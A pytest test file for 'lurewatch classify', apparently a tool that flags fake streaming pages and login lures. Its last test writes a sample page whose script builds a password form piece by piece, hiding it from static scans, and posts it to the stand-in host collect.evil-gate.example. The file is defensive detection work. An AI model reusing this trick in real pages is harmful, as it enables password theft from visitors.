"""``lurewatch classify``: every evasion and every legitimate look-alike, through the command
itself."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from crawler.cli import run_command
from tests.detection.pages import CASES

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hand-written pages on disk with a manifest (ids, urls, relative paths)."""
    folder = tmp_path_factory.mktemp("pages")
    lines = []
    for name, (url, html, _) in CASES.items():
        (folder / f"{name}.html").write_text(html, encoding="utf-8")
        lines.append(
            json.dumps({"id": name, "url": url, "path": f"{name}.html", "extra": "ignored"})
        )
    (folder / "manifest.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


def main(argv: list[str]) -> int:
    """``lurewatch classify ARGV...`` in this process, with no project settings (no
    environment)."""
    return run_command("classify", argv, settings={})


def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, list[dict], str]:
    status = main(argv)
    out, err = capsys.readouterr()
    return status, [json.loads(line) for line in out.splitlines()], err


def test_manifest_every_case(corpus: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, rows, err = _run(["--manifest", str(corpus / "manifest.jsonl")], capsys)
    assert status == 0 and err == ""
    assert [r["id"] for r in rows] == list(CASES)  # input order, ids echoed
    wrong = {}
    for row in rows:
        url, _, expected = CASES[row["id"]]
        assert row["url"] == url
        assert set(row) == {
            "id",
            "url",
            "fake_stream",
            "sso_lure",
            "matched_title",
            "score",
            "reasons",
        }
        got = {k: row[k] for k in expected}
        if got != expected:
            wrong[row["id"]] = (got, row["reasons"])
    assert not wrong


def test_reasons_are_readable(corpus: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url, _, _ = CASES["plain_en"]
    _, rows, _ = _run(["--url", url, str(corpus / "plain_en.html")], capsys)
    assert rows[0]["reasons"][:2] == [
        'title≈"Man of Steel" (100)',
        'template "watch {title} {year} full movie online free" (100)',
    ]
    assert rows[0]["score"] == 100
    # evidence is shown as written, not in the matcher's folded form ("full", not "fuii")
    words = next(
        r for r in rows[0]["reasons"] if r.startswith("fake-stream words next to the title")
    )
    assert "online" in words and "oniine" not in words
    _, rows, _ = _run(
        ["--url", CASES["password_offhost"][0], str(corpus / "password_offhost.html")], capsys
    )
    assert "password form posts to other host collect.evil-gate.example" in rows[0]["reasons"]


def test_paths_default_to_file_uri_and_errors_do_not_stop_others(
    corpus: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = corpus / "nope.html"
    status, rows, err = _run(
        [str(corpus / "review.html"), str(missing), str(corpus / "leetspeak.html")], capsys
    )
    assert status == 1
    assert (
        rows[0]["url"] == (corpus / "review.html").resolve().as_uri()
        and rows[0]["fake_stream"] is False
    )
    assert rows[1]["path"] == str(missing) and "No such file" in rows[1]["error"]
    assert rows[2]["matched_title"] == "Toy Story 5"
    assert "nope.html" in err


def test_manifest_error_line_keeps_its_id(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "ok.html").write_text(CASES["review"][1], encoding="utf-8")
    manifest = tmp_path / "m.jsonl"
    manifest.write_text(
        '{"id": 1, "url": "https://a.example/", "path": "ok.html"}\n'
        '{"id": 2, "url": "https://b.example/", "path": "gone.html"}\n',
        encoding="utf-8",
    )
    status, rows, _ = _run(["--manifest", str(manifest)], capsys)
    assert status == 1
    assert rows[0]["id"] == 1 and "error" not in rows[0]
    assert rows[1]["id"] == 2 and rows[1]["url"] == "https://b.example/" and "error" in rows[1]


def test_titles_option(tmp_path: Path, corpus: Path, capsys: pytest.CaptureFixture[str]) -> None:
    titles = tmp_path / "titles.yaml"
    titles.write_text("- {title: Iron Man 2, year: 2010}\n", encoding="utf-8")
    _, rows, _ = _run(["--titles", str(titles), str(corpus / "sequel_not_watched.html")], capsys)
    assert rows[0]["fake_stream"] is True and rows[0]["matched_title"] == "Iron Man 2"
    titles.write_text("- {title: Iron Man 2, year: 2010, oops: 1}\n", encoding="utf-8")
    assert main(["--titles", str(titles), str(corpus / "review.html")]) == 2
    assert "oops" in capsys.readouterr().err


def test_as_a_command(corpus: Path) -> None:
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "crawler.cli",
            "classify",
            "--url",
            "https://x.tumblr.com/1",
            str(corpus / "homoglyphs.html"),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    row = json.loads(proc.stdout)
    assert row["fake_stream"] is True and row["matched_title"] == "Man of Steel"


@pytest.mark.browser
def test_render_builds_the_dom_offline(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A form assembled with DOM calls cannot be decoded statically; rendering (network cut)
    reveals it."""
    page = tmp_path / "dyn.html"
    page.write_text(
        "<html><body><div id='app'></div><img src='https://tracker.example/pixel.gif'><script>"
        "var f=document.createElement('form');f.action='https://collect'+'.evil-gate.example/g';"
        "var p=document.createElement('input');p.type='pass'+'word';f.appendChild(p);"
        "document.getElementById('app').appendChild(f);</script></body></html>",
        encoding="utf-8",
    )
    _, static, _ = _run(["--url", "https://player.example/w", str(page)], capsys)
    assert static[0]["sso_lure"] is False
    status, rendered, _ = _run(
        ["--render", "--url", "https://player.example/w", str(page)], capsys
    )
    assert status == 0 and rendered[0]["sso_lure"] is True
    assert "password form posts to other host collect.evil-gate.example" in rendered[0]["reasons"]
